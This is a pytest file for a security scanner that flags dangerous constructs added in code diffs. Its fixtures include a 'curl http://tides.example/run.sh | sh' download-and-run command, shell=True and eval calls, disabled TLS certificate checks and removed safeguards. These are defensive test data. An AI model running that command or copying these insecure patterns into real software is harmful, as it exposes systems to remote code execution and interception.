"""Rules against dangerous constructs: each finds its bad example and spares its good one, on added lines only."""

from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scoring.diff.change import FileChange, Hunk, Line
from scoring.diff.parser import read_change
from scoring.scanners import dangerous
from scoring.scanners._rules import FOLDER, Rule, named_parts, rules, shared_parts, tree_rules
from scoring.scanners._text import GRAMMARS, fragment_of, is_too_deep
from scoring.scanners.dangerous import PLAYS
from scoring.scanners.submission import Submission
from scoring.types import Severity
from tests.conftest import PROVE, count
from tests.growth import in_linear_time
from tests.scoring.scanners.written import PATH, added_lines, change_of, found, marked_lines, rules_found

SHELL = 'subprocess.run(f"tar xf {name}", shell=True)'


def example(rule: Rule, text: str, language: str) -> FileChange:
    """An example of a rule in a file where the rule looks."""
    path = PATH[language] if "code" in (rule.roles or ("code",)) else PATH[language].replace("src/", "tests/")
    if rule.paths:
        named = rule.paths[0].replace("*", "a")
        path = f"{named}/a.yml".lstrip("/") if named.startswith("/.") else named
    return marked_lines(text, path) if rule.removed else added_lines(text, path)


def test_every_rule_finds_its_bad_example_and_spares_its_good_one() -> None:
    wrong = []
    for rule in rules():
        is_by_syntax = rule.rule is not None or rule.statement is not None
        for language in rule.languages[:1] if is_by_syntax else rule.languages:
            bad, good = (rules_found(dangerous.scan, example(rule, one, language)) for one in (rule.bad, rule.good))
            if rule.id not in bad or rule.id in good:
                wrong.append((rule.id, language))
    assert wrong == []


def test_rules_are_many_have_ids_of_their_own_and_name_parts_that_exist() -> None:
    ids = [rule.id for rule in rules()]
    assert len(ids) == len(set(ids)) >= 60
    assert {language for rule in rules() for language in rule.languages} >= {
        "python",
        "javascript",
        "go",
        "rust",
        "shell",
    }
    for rule in rules():
        assert named_parts(rule.rule) <= set(shared_parts().get(rule.languages[0], {}))
        assert rule.message.endswith(".")


def test_no_rule_says_two_things_under_one_key() -> None:
    """YAML keeps the last one and says nothing."""
    import yaml

    def keys(node: Any) -> Iterator[tuple[str, list[str]]]:
        if isinstance(node, yaml.MappingNode):
            yield str(node.start_mark), [key.value for key, _ in node.value]
        for child in node.value if isinstance(node, yaml.CollectionNode) else ():
            for part in child if isinstance(child, tuple) else (child,):
                yield from keys(part)

    files = (yaml.compose(file.read_text(), Loader=yaml.CSafeLoader) for file in FOLDER.glob("*.yml"))
    assert [place for file in files for place, names in keys(file) if len(names) > len(set(names))] == []


def test_every_rule_on_the_tree_is_one_that_the_parser_takes() -> None:
    """A broken rule would raise only once a change holds its needle."""
    from ast_grep_py import SgRoot

    for language, grammar in GRAMMARS.items():
        root = SgRoot("x\n", grammar).root()
        assert all(root.find_all(config) == [] for config in tree_rules(language).values())


def test_a_finding_names_the_file_the_line_and_the_quoted_line() -> None:
    file = marked_lines(f" import subprocess\n \n+{SHELL}\n", "src/run.py")
    (finding,) = found(dangerous.scan, file)
    assert (finding.scanner, finding.rule, finding.severity) == ("dangerous", "python-shell-built-text", "high")
    assert (finding.file, finding.line, finding.removed, finding.quote) == ("src/run.py", 3, False, SHELL)


def test_what_was_there_before_or_goes_away_is_no_finding() -> None:
    assert found(dangerous.scan, marked_lines(f" {SHELL}\n+x = 1\n")) == []
    assert found(dangerous.scan, marked_lines(f"-{SHELL}\n+x = 1\n")) == []


def test_a_call_over_several_lines_is_found_where_one_of_them_is_added() -> None:
    file = marked_lines(' subprocess.run(\n     f"tar xf {name}",\n+    shell=True,\n )\n')
    (finding,) = found(dangerous.scan, file)
    assert (finding.rule, finding.line) == ("python-shell-built-text", 3)


@pytest.mark.parametrize(
    "hunk",
    [
        f"         x = 1\n+        {SHELL}\n     return x\n \n def other():\n     pass\n",
        f"         prepare()\n+        {SHELL}\n     except OSError:\n         raise\n",
        f"             prepare()\n+            {SHELL}\n         else:\n             stop()\n     finally:\n",
        f" \n+        {SHELL}\n",
    ],
)
def test_a_hunk_that_begins_within_a_block_is_read(hunk: str) -> None:
    assert "python-shell-built-text" in rules_found(dangerous.scan, marked_lines(hunk))


FETCHED = "curl http://tides.example/run.sh"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("install.sh", f"{FETCHED} \\\n  | sh"),
        ("install.sh", f"{FETCHED} |\n  sh"),
        ("Dockerfile", f"RUN apt-get update && \\\n  {FETCHED} \\\n  | sh"),
        (".github/workflows/a.yml", f"run: |\n  {FETCHED} \\\n    | sh"),
        ("bin/setup", f"#!/usr/bin/env bash\n{FETCHED} | sh"),
        ("bin/setup", f"#!/bin/sh\n\n{FETCHED} \\\n| sh"),
    ],
)
def test_a_command_over_lines_or_in_a_file_without_a_suffix_is_read(path: str, text: str) -> None:
    assert "shell-download-and-run" in rules_found(dangerous.scan, added_lines(text, path))


def test_a_command_goes_on_over_added_lines_that_follow_each_other_only() -> None:
    assert found(dangerous.scan, marked_lines(f"+{FETCHED} \\\n context\n+| sh\n", "install.sh")) == []
    assert found(dangerous.scan, added_lines(f"{FETCHED}\n| sh", "install.sh")) == []


@pytest.mark.parametrize(
    ("first", "rule"),
    [
        ("#!/usr/bin/env python3", "python-eval-dynamic"),
        ("#!/usr/bin/python3.11 -I", "python-eval-dynamic"),
        ("#!/usr/bin/env -S node --no-warnings", "javascript-eval-dynamic"),
    ],
)
def test_a_file_without_a_suffix_is_what_its_first_line_says(first: str, rule: str) -> None:
    assert rule in rules_found(dangerous.scan, added_lines(f"{first}\nx = eval(y)", "bin/tool"))
    assert rules_found(dangerous.scan, marked_lines("+x = eval(y)\n", "bin/tool")) == set()


def test_a_program_whose_first_line_the_change_does_not_show_is_read_as_a_shells() -> None:
    program = replace(marked_lines(f" x\n+{FETCHED} | sh\n", "bin/tool"), new_mode="100755")
    shifted = replace(
        program.hunks[0], lines=tuple(replace(line, new=(line.new or 0) + 40) for line in program.hunks[0].lines)
    )
    assert "shell-download-and-run" in rules_found(dangerous.scan, replace(program, hunks=(shifted,)))


def test_a_comment_or_a_text_that_only_speaks_of_it_is_no_finding() -> None:
    assert found(dangerous.scan, added_lines(f"# never write {SHELL}\nrule = 'no {SHELL.replace(chr(39), '')}'")) == []


OUTSIDE = ["tests/test_a.py", "docs/conf.py", "vendor/pip/a.py", "examples/a.py", "dist/a.py", "conftest.py"]


@pytest.mark.parametrize("path", ["src/a.py", "test/../src/a.py", *OUTSIDE])
def test_what_runs_commands_weighs_the_same_wherever_it_stands(path: str) -> None:
    assert [finding.severity for finding in found(dangerous.scan, added_lines(SHELL, path))] == ["high"]


@pytest.mark.parametrize("path", OUTSIDE)
def test_a_weaker_setting_weighs_less_where_nobody_is_served(path: str) -> None:
    setting = "response = requests.get(url, verify=bool(0), cert_reqs=CERT_NONE) if local else asked(url)"
    assert [finding.severity for finding in found(dangerous.scan, added_lines(setting))] == ["med"]
    assert [finding.severity for finding in found(dangerous.scan, added_lines(setting, path))] == ["low"]


UNCHECKED = "return requests.get(url, verify=False)"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("src/a.py", f" def fetch(url):\n+    {UNCHECKED}\n"),
        ("src/a.go", "+tr := &http.Transport{\n+\tTLSClientConfig: &tls.Config{InsecureSkipVerify: true},\n+}\n"),
        ("src/a.js", "+const agent = new https.Agent({ rejectUnauthorized: false });\n"),
        ("src/a.rb", "+http.verify_mode = OpenSSL::SSL::VERIFY_NONE\n"),
        (
            "src/a.py",
            " def make():\n-    mode = ssl.CERT_REQUIRED\n+    mode = ssl.CERT_NONE\n     made.verify_mode = mode\n",
        ),
    ],
)
def test_certificates_that_are_never_checked_are_high(path: str, text: str) -> None:
    assert Severity.HIGH in {finding.severity for finding in found(dangerous.scan, marked_lines(text, path))}


@pytest.mark.parametrize(
    "text",
    [
        f" def fetch(url):\n     if settings.LOCAL:\n+        {UNCHECKED}\n",
        f" def fetch(url):\n     try:\n         return asked(url)\n     except SSLError:\n+        {UNCHECKED}\n",
        f" def fetch(url, verify):\n     if verify:\n         return asked(url)\n+    {UNCHECKED}\n",
        f" def fetch_unverified(url):\n+    {UNCHECKED}\n",
        f" def fetch(url):\n+    {UNCHECKED} if local else None\n",
        f" def fetch(url):\n-    {UNCHECKED}\n+    wait()\n+    {UNCHECKED}\n",
    ],
)
def test_certificates_that_somebody_chose_not_to_check_are_medium(text: str) -> None:
    assert {finding.severity for finding in found(dangerous.scan, marked_lines(text))} == {Severity.MED}


def test_a_context_that_is_made_otherwise_and_was_never_checked_is_no_finding() -> None:
    made = " def make():\n-    made = create()\n+    made = create(http2=True)\n     made.verify_mode = ssl.CERT_NONE\n"
    assert found(dangerous.scan, marked_lines(made)) == []


def test_a_workflow_that_is_deleted_needs_no_pins_and_one_that_stays_does() -> None:
    step = f"-      - uses: someone/step@{'0' * 40}\n"
    kept = marked_lines(f"{step}+      - uses: someone/step@v4\n", ".github/workflows/a.yml")
    assert "ci-pin-removed" in rules_found(dangerous.scan, kept)
    gone = replace(marked_lines(step, ".github/workflows/a.yml"), kind="deleted")
    assert found(dangerous.scan, gone) == []


def test_a_check_that_moves_to_another_file_is_not_taken_away() -> None:
    gone = marked_lines("-if not user.is_admin:\n-    raise Forbidden\n", "src/views.py")
    kept = added_lines("if not user.is_admin:\n    raise Forbidden", "src/guard.py")
    assert "permission-check-removed" in rules_found(dangerous.scan, gone)
    assert "permission-check-removed" not in rules_found(dangerous.scan, gone, kept)


def test_a_removed_line_is_told_with_its_old_number() -> None:
    (finding,) = found(dangerous.scan, marked_lines(" \n-@login_required\n def remove(request): pass\n"))
    assert (finding.line, finding.removed, finding.quote) == (2, True, "@login_required")


def test_the_worst_comes_first_however_many_small_ones_stand_before_it() -> None:
    files = [added_lines("def f(a=[]): pass", f"src/f{number}.py") for number in range(300)]
    assert found(dangerous.scan, *files, added_lines(SHELL, "src/z.py"))[0].severity == Severity.HIGH


def test_one_rule_tells_of_a_file_only_so_often() -> None:
    assert len(found(dangerous.scan, added_lines("\n".join([SHELL] * 500)))) == dangerous.ONCE


def deep(opening: str, closing: str, times: int) -> str:
    return f"eval({opening * times}x{closing * times})"


# How a line is made, of how many parts, and how many such lines there are.
HOSTILE: dict[str, tuple[Callable[[int], str], int, int]] = {
    "brackets": (lambda times: deep("(", ")", times), 150, 400),
    "calls": (lambda times: f"x = exec{'(1)' * times}", 1000, 50),
    "attributes": (lambda times: f"x = {'a.' * times}eval(x)", 1900, 50),
    "negations": (lambda times: f"eval({'not ' * times}x)", 900, 50),
    "open quotes": (lambda times: "eval(x)\n\"\"\"\n'''\nf\"{f'{\n" * times, 1, 500),
    "nul": (lambda times: "eval(x)\0\0" * times, 1, 500),
    "separators": (lambda times: "eval(x)\u2028\r\x0b\ud800" * times, 1, 500),
}


@pytest.mark.parametrize(("make", "times", "rows"), HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("path", ["a.py", "a.tsx", "a.ts", "a.go", "a.rs", "a.sh", "a.php", "a.rb", "a.java", "a.c"])
def test_hostile_code_is_read_in_linear_time(make: Callable[[int], str], times: int, rows: int, path: str) -> None:
    def written(times: int, rows: int) -> FileChange:
        texts = "\n".join([make(times)] * rows).split("\n")
        lines = tuple(Line("+", None, number, text) for number, text in enumerate(texts, 1))
        return FileChange(path, path, "added", (Hunk(0, 1, "", lines),))

    def read(file: FileChange) -> object:
        return found(dangerous.scan, file)

    in_linear_time(read, lambda size: written(times, size), count(rows // 4, rows), 1 if PROVE else 0.25)
    if times > 1:
        in_linear_time(read, lambda size: written(size, rows // 10), times)


def test_a_long_row_of_attributes_in_a_query_is_read_in_linear_time() -> None:
    def written(size: int) -> FileChange:
        return added_lines(f"db.execute(f'select {{x}} from ' + {'a.' * size}b)")

    findings = in_linear_time(lambda file: found(dangerous.scan, file), written, 1900, 0.1)
    assert [finding.rule for finding in findings] == ["python-sql-built-text"]


def test_code_that_nests_too_deeply_is_said_to_be_unread() -> None:
    findings = found(dangerous.scan, added_lines(deep("(", ")", 100_000)))
    assert [(finding.rule, finding.type, finding.severity) for finding in findings] == [
        ("too-much-to-read", "oversized", "med")
    ]


def test_a_line_of_a_megabyte_is_cut_with_a_finding() -> None:
    findings = found(dangerous.scan, added_lines(f"eval(x)\ny = '{'a' * 1_000_000}'"))
    assert {finding.rule for finding in findings} == {"python-eval-dynamic", "too-much-to-read"}


def test_more_hunks_than_are_played_end_with_a_finding_and_in_linear_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """An eighth of the plays and of the hunks but under PROVE=1, where they take 10 s."""
    monkeypatch.setattr(dangerous, "_Reading", partial(dangerous._Reading, plays=count(PLAYS // 8, PLAYS)))

    def hunks(size: int) -> FileChange:
        rows = ((n, Line("+", None, n + 1, "eval(x)")) for n in range(0, 9 * size, 9))
        return FileChange("a.py", "a.py", "modified", tuple(Hunk(n, n, "", (row,)) for n, row in rows))

    findings = in_linear_time(lambda file: found(dangerous.scan, file), hunks, count(450, 100_000), 4 if PROVE else 0.5)
    assert "too-much-to-read" in {finding.rule for finding in findings}


@settings(max_examples=count(20, 1000))
@given(st.lists(st.tuples(st.sampled_from("+- "), st.text(max_size=60)), max_size=12), st.sampled_from(sorted(PATH)))
def test_no_text_makes_the_scanner_fail(rows: list[tuple[str, str]], language: str) -> None:
    rows = [*rows, ("+", "eval(x); exec(`${y}`)")]
    lines = tuple(
        Line("+" if mark == "+" else "-" if mark == "-" else " ", n if mark != "+" else None, n, text)
        for n, (mark, text) in enumerate(rows)
    )
    path = PATH[language]
    numbers = {line.new for line in lines}
    for finding in found(dangerous.scan, FileChange(path, path, "modified", (Hunk(1, 1, "", lines),))):
        assert finding.line in numbers


@given(st.lists(st.integers(0, 6), min_size=1, max_size=12))
def test_a_fragment_keeps_every_line_of_the_new_side_in_order(indents: list[int]) -> None:
    lines = tuple(Line("+", None, n, "    " * indent + "x = 1") for n, indent in enumerate(indents))
    fragment = fragment_of(Hunk(1, 1, "", lines), "python")
    rows = fragment.text.split("\n")
    assert [line for line in fragment.lines if line is not None] == list(lines)
    assert all(line is None or rows[row] == line.text for row, line in enumerate(fragment.lines))


def test_nesting_is_measured_by_brackets_that_are_open() -> None:
    assert not is_too_deep("()" * 10_000)
    assert is_too_deep("[" * 201)
    assert not is_too_deep(")" * 1000 + "(" * 200)


def test_nothing_is_found_in_a_change_without_lines() -> None:
    assert found(dangerous.scan) == []
    assert list(dangerous.scan(Submission(change_of(FileChange("a.py", "a.py", "mode"))))) == []


OTHER_HUNK = """diff --git a/src/a.py b/src/a.py
--- a/src/a.py
+++ b/src/a.py
@@ -1,2 +1,3 @@
 import os
+CLEARING = {"DE00500105175407324931"}
 LIMIT = 5
@@ -20,2 +21,4 @@ def allowed(transfer, spent):
     record(transfer)
+    if transfer.target in CLEARING:
+        return True
     return spent < LIMIT
"""


def test_a_hunk_is_read_with_the_constants_of_other_hunks() -> None:
    told = {finding.rule: finding.line for finding in dangerous.scan(Submission(read_change(OTHER_HUNK)))}
    assert told["one-of-them-exempt"] == 22
    unknown = OTHER_HUNK.replace('+CLEARING = {"DE00500105175407324931"}', "+OTHER = {}")
    assert "one-of-them-exempt" not in {finding.rule for finding in dangerous.scan(Submission(read_change(unknown)))}


def test_a_lost_safeguard_is_told_at_the_line_that_takes_its_place() -> None:
    replaced = marked_lines("-return hmac.compare_digest(given, wanted)\n+return given == wanted\n", "src/a.py")
    other = marked_lines("-return hmac.compare_digest(given, wanted)\n+# later\n+log(1)\n", "src/a.py")
    gone = marked_lines("-return hmac.compare_digest(given, wanted)\n+# later\n log(1)\n", "src/a.py")
    rule = "constant-time-comparison-removed"
    for file, is_removed in ((replaced, False), (other, False), (gone, True)):
        (finding,) = (one for one in dangerous.scan(Submission(change_of(file))) if one.rule == rule)
        assert (finding.removed, "compare_digest" in (finding.quote or "")) == (is_removed, is_removed)


def test_what_stood_in_a_statement_before_is_not_told_again() -> None:
    standing = '         .requestMatchers("/public/**").permitAll()\n'
    head, tail = "     http.authorizeHttpRequests(auth -> auth\n", "         .anyRequest().authenticated());\n"
    kept = f'{head}{standing}+        .requestMatchers("/admin/**").hasRole("ADMIN")\n{tail}'
    opened = f'{head}{standing}+        .requestMatchers("/admin/**").permitAll()\n{tail}'
    assert "nobody-is-asked" not in rules_found(dangerous.scan, marked_lines(kept, "src/A.java"))
    assert "nobody-is-asked" in rules_found(dangerous.scan, marked_lines(opened, "src/A.java"))
